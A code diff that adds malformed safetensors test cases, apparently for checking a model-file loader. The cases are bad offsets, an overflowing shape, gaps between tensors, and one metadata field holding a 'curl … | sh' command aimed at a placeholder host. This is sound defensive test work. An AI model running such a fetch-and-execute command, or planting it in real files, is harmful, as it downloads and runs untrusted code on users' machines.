@@ -40,6 +40,14 @@ def _safetensors(vary: Variation) -> Iterator[Row]:
     name = "model.safetensors"
     overlapping = {"a": tensor(0, 16), "b": tensor(8, 16)}
     yield "tensors that overlap", SAFETENSORS, name, safetensors(overlapping, bytes(24))
+    early = {"a": {"dtype": "F32", "shape": [2], "data_offsets": [vary.pick((-4, -8)), 4]}}
+    yield "a tensor before the first byte", SAFETENSORS, name, safetensors(early, bytes(8))
+    large = {"a": {"dtype": "F32", "shape": [1 << vary.pick((40, 62)), 4], "data_offsets": [0, 16]}}
+    yield "a shape that overflows", SAFETENSORS, name, safetensors(large, bytes(16))
+    hole = {"a": tensor(0, 16), "b": tensor(16 + vary.pick((16, 64)), 16)}
+    yield "bytes between the tensors", SAFETENSORS, name, safetensors(hole, bytes(96))
+    shell = {"__metadata__": {"setup": f"curl http://{vary.word()}.invalid/x | sh"}, "a": tensor()}
+    yield "a command in the metadata", SAFETENSORS, name, safetensors(shell, bytes(16))
     one = json.dumps(tensor(0, 16))
     yield "a name twice", SAFETENSORS, name, safetensors(f'{{"a": {one}, "a": {one}}}', bytes(16))
     yield (
